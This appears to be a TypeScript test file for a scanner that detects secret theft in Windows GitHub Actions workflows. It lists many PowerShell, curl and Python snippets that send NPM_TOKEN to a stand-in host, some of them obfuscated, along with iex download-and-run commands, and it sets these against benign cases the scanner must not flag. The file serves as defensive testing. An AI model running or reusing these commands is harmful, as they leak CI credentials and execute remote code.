import assert from 'node:assert/strict'
import { test } from 'node:test'
import { maliciousRules } from '../malicious-rules.ts'
import { scanTexts } from '../scan.ts'

const U = 'https://drop.stats-kit.example/c'

/** A job on Windows, where scripts are PowerShell unless they say otherwise. */
const judge = async (run: string) => {
  const text = `on: push
jobs:
  a:
    runs-on: windows-latest
    env:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
      CERT: \${{ secrets.SIGNING_CERT }}
    steps:
      - run: |
${run
  .split('\n')
  .map((line) => `          ${line}`)
  .join('\n')}
`
  return (await scanTexts([{ path: '.github/workflows/a.yml', text }], { rules: maliciousRules })).findings
}

const thefts: readonly string[] = [
  `Invoke-RestMethod -Uri ${U} -Method Post -Body $env:NPM_TOKEN`,
  `$t = $env:NPM_TOKEN\n$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($t))\nInvoke-WebRequest "${U}?x=$b" -UseBasicParsing`,
  `$wc = New-Object System.Net.WebClient\n$wc.UploadString("${U}", $env:NPM_TOKEN)`,
  `[System.Net.WebClient]::new().UploadString("${U}", "POST", "$($env:NPM_TOKEN)")`,
  `$body = @{ token = $env:NPM_TOKEN; repo = "x" } | ConvertTo-Json\nirm ${U} -Method Post -Body $body -ContentType 'application/json'`,
  `Get-ChildItem env: | ForEach-Object { "$($_.Name)=$($_.Value)" } | Out-File e.txt\nInvoke-RestMethod ${U} -Method Post -InFile e.txt`,
  `$params = @{\n  Uri = '${U}'\n  Method = 'Post'\n  Body = $env:NPM_TOKEN\n}\nInvoke-RestMethod @params`,
  `function Send($d) { irm ${U} -Method Post -Body $d }\nSend $env:NPM_TOKEN`,
  `foreach ($n in 'NPM_TOKEN','X') { irm "${U}?v=$([Environment]::GetEnvironmentVariable($n))" }`,
  `iex (iwr http://203.0.113.8/x.ps1)`,
  `IEX ((New-Object Net.WebClient).DownloadString('http://203.0.113.8/x.ps1'))`,
  `curl.exe -d "$env:NPM_TOKEN" ${U}`,
  `Resolve-DnsName "$($env:NPM_TOKEN).x.drop.example"`,
  `$s = "Invoke-Rest" + "Method"; & $s -Uri ${U} -Body $env:NPM_TOKEN -Method Post`,
  `"NPM=$env:NPM_TOKEN" | Out-File -Append $env:GITHUB_ENV\ncurl -d $env:NPM ${U}`,
  `$c=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("aXdyIGh0dHBzOi8vZHJvcC5leGFtcGxlIC1Cb2R5ICRlbnY6TlBNX1RPS0VOIC1NZXRob2QgUG9zdA==")); iex $c`,
  `$env:NPM_TOKEN.ToCharArray() -join ' '`,
  `Write-Host ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:NPM_TOKEN)))`,
  `python -c "import os,requests; requests.post('${U}', data=os.environ['NPM_TOKEN'])"`,
  `try { irm ${U} -Method Post -Body $env:NPM_TOKEN } catch {}`,
  `Start-Process curl -ArgumentList "-d $env:NPM_TOKEN ${U}"`,
  `$client = [System.Net.Http.HttpClient]::new(); $client.PostAsync("${U}", [System.Net.Http.StringContent]::new($env:NPM_TOKEN)).Wait()`,
  `bash -c 'curl -d "$NPM_TOKEN" ${U}'`,
]

for (const run of thefts) {
  test(`it is theft: ${run.replaceAll('\n', ' / ').slice(0, 120)}`, async () => assert.notEqual((await judge(run)).length, 0))
}

const honest: readonly string[] = [
  `$headers = @{ Authorization = "Bearer $env:DEPLOY_TOKEN" }\nInvoke-RestMethod -Uri https://api.our-company.example/deploy -Headers $headers -Method Post`,
  `choco install x -y`,
  `$env:PATH += ";C:\\x"`,
  `iex ((New-Object System.Net.WebClient).DownloadString('https://get.our-tool.example/install.ps1'))`,
  `[System.IO.File]::WriteAllBytes("cert.pfx", [System.Convert]::FromBase64String($env:CERT))`,
]

for (const run of honest) {
  test(`it is honest: ${run.slice(0, 120)}`, async () =>
    assert.deepEqual(
      (await judge(run)).map((each) => `${each.rule}: ${each.message}`),
      [],
    ))
}
